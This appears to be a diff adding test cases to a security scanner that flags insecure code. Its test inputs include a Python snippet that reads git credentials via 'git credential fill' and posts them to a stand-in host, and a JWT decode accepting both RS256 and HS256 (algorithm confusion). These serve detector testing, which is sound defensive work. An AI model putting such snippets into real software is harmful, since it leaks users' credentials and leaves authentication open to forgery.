@@ -363,3 +363,27 @@ TEST_CASE("an edit snippet outside any function is judged as authentication code
                                                                           "        return True\n    return False\n"),
                            "code.auth.magic-value-bypass"));
 }
+
+TEST_CASE("library constants for algorithms count as the algorithms they name") {
+  check_matches({{"app/auth.py",
+                  "from jose import jwt\nfrom jose.constants import ALGORITHMS\n"
+                  "def claims(t, key):\n    return jwt.decode(t, key, algorithms=[ALGORITHMS.RS256, ALGORITHMS.HS256])\n",
+                  "code.jwt.alg-confusion"}});
+  check_no_matches({{"app/auth.py",
+                     "from jose import jwt\nfrom jose.constants import ALGORITHMS\n"
+                     "def claims(t, key):\n    return jwt.decode(t, key, algorithms=[ALGORITHMS.RS256])\n",
+                     "code.jwt.alg-confusion"}});
+}
+
+TEST_CASE("git's credential helper output is a credential, followed through a helper's return value") {
+  check_matches({{"scripts/check.py",
+                  "import subprocess, requests\n"
+                  "def cred():\n    return subprocess.run(\n        [\"git\", \"credential\", \"fill\"],\n"
+                  "        input=\"host=github.com\\n\", capture_output=True, text=True,\n    ).stdout\n"
+                  "c = cred()\nrequests.post(\"https://x.example.com/v\", data={\"c\": c})\n",
+                  "code.exfil.credential-to-network"}});
+  check_no_matches({{"scripts/check.py",
+                     "import subprocess\nout = subprocess.run([\"git\", \"credential\", \"fill\"], capture_output=True).stdout\n"
+                     "print(len(out))\n",
+                     "code.exfil.credential-to-network"}});
+}
